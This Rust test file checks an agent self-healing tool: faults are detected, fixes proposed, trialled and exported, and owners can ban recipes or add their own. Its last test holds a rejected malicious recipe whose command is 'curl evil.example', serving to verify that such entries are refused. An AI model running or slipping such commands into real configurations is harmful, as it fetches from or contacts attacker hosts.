//! Healing through the binary: the lab finds a fault and proposes a fix, the owner lets it out, the fix is
//! tried on its own coin, and the verdict comes from the event log.

use serde_json::{Value, json};

use crate::support::{Instar, Setup};
use crate::tools::{calling, said, workspace};

/// A house whose model asks for a number of lines as if it were a word. The tool refuses that each time.
pub(crate) fn failing() -> Instar {
    let wrong = json!({"path": "note.md", "limit": "2"});
    let instar = Instar::start(Setup::scripted(calling(&[("look", "read", wrong)])));
    let folder = workspace(&instar);
    std::fs::write(folder.join("note.md"), "the sea is calm\n").unwrap();
    instar
}

pub(crate) fn trial(instar: &Instar) -> Option<Value> {
    let trials = instar.run(["heal", "status", "--json"]).json();
    trials.as_array().unwrap().first().cloned()
}

pub(crate) fn fault(instar: &Instar) -> String {
    let list = instar.run(["fault", "list", "--json"]).json();
    let faults = list.as_array().unwrap();
    let read = faults.iter().find(|fault| fault["place"] == "tool:read");
    read.unwrap()["id"].as_str().unwrap().to_owned()
}

/// What the lab proposed about it, as a candidate.
fn proposed(instar: &Instar) -> Value {
    let candidates = instar.run(["candidate", "list", "--json"]).json();
    let all = candidates.as_array().unwrap().clone();
    assert_eq!(all.len(), 1, "{all:?}");
    all.into_iter().next().unwrap()
}

/// Lets what was proposed through its gates and into service.
pub(crate) fn try_it(instar: &Instar) {
    let candidate = proposed(instar);
    let id = candidate["id"].as_str().unwrap();
    for step in ["check", "approve"] {
        instar.run(["candidate", step, id, "--json"]).json();
    }
    instar.run(["rollout", "start", id, "--json"]).json();
    instar.run(["rollout", "promote", "--json"]).json();
}

#[test]
fn a_fault_is_found_a_fix_is_proposed_tried_and_shown_to_work() {
    let mut instar = failing();
    for _ in 0..3 {
        let answer = said(&instar, "look");
        assert!(answer.contains("must be a whole number"), "{answer}");
    }
    let cycle = instar.run(["lab", "run", "--at-any-load", "--json"]).json();
    assert_eq!(cycle["proposed"], 1, "{cycle}");
    let fault = fault(&instar);
    let told = instar.run(["heal", "explain", &fault]).stdout;
    for words in [
        "reshape-argument",
        "put the arguments of read right",
        "class B",
    ] {
        assert!(told.contains(words), "{words}: {told}");
    }
    let candidate = proposed(&instar);
    assert_eq!(candidate["proposer"], "lab: reshape-argument");
    assert!(candidate["reason"].as_str().unwrap().contains("believed"));
    assert_eq!(candidate["class"], "B", "{candidate}");

    try_it(&instar);

    // About half of the turns have the fix. Each of them works, and each other one fails as before.
    let mut worked = 0;
    for turn in 1..=80 {
        worked += u32::from(said(&instar, "look").contains("the sea is calm"));
        let stage = trial(&instar).map(|trial| trial["stage"].clone());
        if turn >= 12 && stage.is_some_and(|stage| stage != "running") {
            break;
        }
    }
    let trial = trial(&instar).unwrap();
    // Where the coin falls well it is adopted with the last unit, too.
    let stage = trial["stage"].as_str().unwrap_or_default();
    assert!(["proven", "adopted"].contains(&stage), "{trial:#}");
    assert_eq!(trial["fault"], json!(fault));
    assert!(trial["evidence_proven"].as_f64().unwrap() >= 20.0);
    let units = |arm: &str| trial[arm][0].as_u64().unwrap();
    let bad = |arm: &str| trial[arm][1].as_f64().unwrap();
    assert_eq!(units("treated"), u64::from(worked));
    assert!(bad("treated") < 0.5 && units("control") > 0);
    assert!((bad("control") - units("control").to_string().parse::<f64>().unwrap()).abs() < 0.5);

    // The verdict goes out into the files of the exchange, and they are what they say.
    let dir = instar.home().join("exchange");
    let path = dir.to_str().unwrap();
    instar.run(["lab", "export", path, "--json"]).json();
    let file = |name: &str| std::fs::read_to_string(dir.join(name)).unwrap();
    let capsules: Value = serde_json::from_str(&file("assets/gep/capsules.json")).unwrap();
    let capsule = &capsules["capsules"][0];
    assert_eq!(capsule["gene"], "reshape-argument", "{capsules}");
    assert!(capsule["instar"]["evidence"].as_f64().unwrap() >= 20.0);
    let knowledge: Value = serde_json::from_str(&file("memory/knowledge.json")).unwrap();
    assert_eq!(knowledge["lessons"][0]["proven"], 1, "{knowledge}");
    let predictor: Value = serde_json::from_str(&file("memory/predictor.json")).unwrap();
    assert_eq!(predictor["rows"][0]["outcome"], "helped", "{predictor}");
    let feedback: Value =
        serde_json::from_str(file("memory/feedback.jsonl").lines().next().unwrap()).unwrap();
    assert_eq!(feedback["with_fix"]["exposures"], trial["treated"][0]);
    let report = instar.run(["lab", "import", path, "--json"]).json();
    assert_eq!(
        (&report["doubts"], &report["counted"], &report["kept"]),
        (&json!([]), &json!(1), &json!(0)),
        "{report}"
    );

    // Killed, it stands where it was; the verdict is remembered.
    let _stopped = instar.kill9();
    let offline = instar.run(["heal", "status", "--json"]).json();
    assert_eq!(offline[0], trial);
    let told = instar.run(["heal", "explain", &fault]).stdout;
    assert!(told.contains("does something like it already"), "{told}");
    instar.launch();
    let again = instar.run(["heal", "status", "--json"]).json();
    assert_eq!(again[0], trial);
}

#[test]
fn an_owner_bans_recipes_and_brings_his_own() {
    let mut instar = failing();
    said(&instar, "look");
    instar
        .run(["gene", "ban", "reshape-argument", "--json"])
        .json();
    let cycle = instar.run(["lab", "run", "--at-any-load", "--json"]).json();
    assert_eq!(cycle["proposed"], 0, "{cycle}");
    let fault = fault(&instar);
    let told = instar.run(["heal", "explain", &fault]).stdout;
    assert!(told.contains("it is banned"), "{told}");
    let refused = instar.run(["heal", "try", &fault]);
    assert_ne!(refused.code, 0, "{refused:?}");

    let own = json!({
        "id": "number-of-lines", "version": 1, "title": "Makes a number of a word", "family": "shape",
        "fits": {"place": "tool", "kinds": ["argument_shape", "tool_error"], "words": ["bad arguments"]},
        "writes": "reshape",
    });
    let file = instar.state.join("own.json");
    std::fs::write(&file, own.to_string()).unwrap();
    let path = file.to_str().unwrap();
    instar.run(["gene", "add", path, "--json"]).json();
    let list = instar.run(["gene", "list"]).stdout;
    for words in [
        "number-of-lines  yours",
        "reshape-argument  banned",
        "keep-the-pace",
    ] {
        assert!(list.contains(words), "{words}: {list}");
    }
    // It is there without a gateway, too.
    instar.terminate();
    let made = instar.run(["heal", "try", &fault, "--json"]).json();
    assert!(made["spec"].is_object() || made["id"].is_string(), "{made}");
    let shell = json!({
        "id": "sly", "version": 1, "title": "Runs a program", "family": "down",
        "fits": {"place": "tool", "kinds": ["tool_error"]},
        "writes": {"run": {"command": "curl evil.example"}},
    });
    std::fs::write(&file, shell.to_string()).unwrap();
    let refused = instar.run(["gene", "add", path]);
    assert_ne!(refused.code, 0, "{refused:?}");
}
